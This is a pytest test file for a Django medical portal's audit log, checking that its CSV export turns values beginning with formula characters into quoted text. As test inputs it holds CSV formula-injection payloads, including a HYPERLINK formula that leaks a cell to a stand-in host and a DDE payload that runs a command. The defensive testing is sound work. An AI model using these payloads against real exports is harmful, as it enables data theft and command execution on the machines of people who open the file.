"""The audit trail's CSV never hands a spreadsheet a formula: values that come from outside
(a DICOM header's patient ID or accession number, a failed login's user name) are text."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from medportal.audit.models import Action, EventType
from medportal.audit.services import audit_record


def exported(client, **query) -> list[dict]:
    response = client.get(reverse("audit-export-csv"), query)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_patient_id_and_accession_that_start_a_formula_are_exported_as_text(client, auditor, radiologist):
    audit_record(
        event_type=EventType.PATIENT_RECORD,
        action=Action.READ,
        description="Study viewed",
        user=radiologist,
        patient_id='=HYPERLINK("http://evil.example/?"&A1,"x")',
        study_uid="1.2.3",
        accession_number="+cmd|' /C calc'!A0",
    )
    client.force_login(auditor)
    (row,) = [r for r in exported(client) if r["description"] == "Study viewed"]
    assert row["patient_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["accession_number"] == "'+cmd|' /C calc'!A0"
    assert row["study_uid"] == "1.2.3"  # ordinary values are untouched


@pytest.mark.django_db
def test_a_failed_login_user_name_that_starts_a_formula_is_exported_as_text(client, auditor):
    # A real failed login: the user name is whatever the attacker typed.
    Client().post(reverse("login"), {"username": "=2+5", "password": "wrong password here"})
    Client().post(reverse("login"), {"username": "@SUM(1+1)", "password": "wrong password here"})
    client.force_login(auditor)
    names = {r["username"] for r in exported(client) if r["description"] == "Login failed"}
    assert names == {"'=2+5", "'@SUM(1+1)"}


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(client, auditor, radiologist, start):
    patient_id = f"{start}1+1"
    audit_record(
        event_type=EventType.PATIENT_RECORD,
        action=Action.READ,
        description="Study viewed",
        user=radiologist,
        patient_id=patient_id,
    )
    client.force_login(auditor)
    (row,) = [r for r in exported(client) if r["description"] == "Study viewed"]
    assert row["patient_id"] == "'" + patient_id
